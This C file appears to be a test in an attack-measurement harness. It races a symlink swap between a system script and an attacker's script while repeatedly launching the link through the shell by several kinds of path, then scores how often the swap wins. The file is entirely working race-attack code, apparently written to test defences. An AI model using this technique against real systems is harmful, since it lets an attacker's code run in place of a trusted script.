/* SPDX-License-Identifier: MIT */
/* GOOD is a script in a directory of the system, EVIL one of ours: another process swaps the link
 * that a shell is told to read. */
#include "attack.h"

static void flip(void *arg)
{
    char **argv = arg;
    for (;;) {
        for (int i = 2; i < 4; i++)
            if (symlink(argv[i], "next") == 0 && rename("next", "script") < 0)
                _exit(1);
        sched_yield();
    }
}

int main(int argc, char **argv)
{
    unsigned rounds = attack_rounds(argc, argv);
    struct attack_score s = {0};
    char path[4096];
    if (!getcwd(path, sizeof(path) - 16))
        return 2;
    strcat(path, "/script");
    (void)unlink("next");
    (void)unlink("script");
    if (symlink(argv[2], "script") < 0)
        return 2;
    pid_t other = attack_beside(flip, argv);
    for (unsigned i = 0; i < rounds; i++) {
        /* By its path, by a relative name, and by itself. */
        static char *const ways[][3] = {{"sh", "script", NULL}, {"sh", "./script", NULL}};
        char *const absolute[] = {"sh", path, NULL}, *const itself[] = {"script", NULL};
        int status;
        pid_t pid = fork();
        if (pid == 0) {
            attack_pause(i);
            if (i % 4 == 3)
                execv("./script", itself);
            else
                execv("/bin/sh", i % 4 == 2 ? absolute : ways[i % 4]);
            _exit(errno == EACCES ? 126 : 99);
        }
        (void)waitpid(pid, &status, 0);
        attack_count(&s, status);
    }
    attack_stop(other);
    (void)unlink("next");
    (void)unlink("script");
    attack_report("script-swap", &s);
    return 0;
}
